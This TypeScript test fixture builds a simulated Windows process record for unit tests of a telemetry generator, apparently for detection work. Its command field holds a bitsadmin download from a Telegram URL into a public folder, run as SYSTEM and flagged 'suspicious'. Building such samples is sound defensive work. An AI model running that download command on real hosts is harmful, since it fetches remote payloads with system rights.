/** Processes of the simulation built by hand, for the generator's and the shapes' unit tests. */
import { Rng } from './prng.ts';
import { BINARIES, hashesOf, makeHosts, type Proc, SYSTEM_ACCOUNTS } from './world.ts';

/** A SYSTEM bitsadmin download; `overrides` change any of its fields. */
export function handMadeProc(overrides: Partial<Proc> = {}): Proc {
  const host = makeHosts(new Rng(7))[3]!;
  const image = overrides.image ?? BINARIES.bitsadmin.path;
  return {
    host,
    bin: BINARIES.bitsadmin,
    image,
    nameLower: 'bitsadmin.exe',
    cmd: 'bitsadmin.exe /transfer j /download https://t.me/s/x C:\\Users\\Public\\x.dat',
    cls: 'suspicious',
    net: undefined,
    account: SYSTEM_ACCOUNTS.system,
    integrity: 'Medium',
    guid: '{0a1b-65e1-0000-0001-000000000700}',
    pid: 4_242,
    fpid: '12345678901234',
    parent: { image: BINARIES.cmd.path, cmd: 'cmd.exe', guid: '{0}', pid: 8, fpid: '99' },
    startMs: Date.UTC(2024, 2, 1, 10, 0, 0, 123),
    hashes: hashesOf(image),
    ...overrides,
  };
}
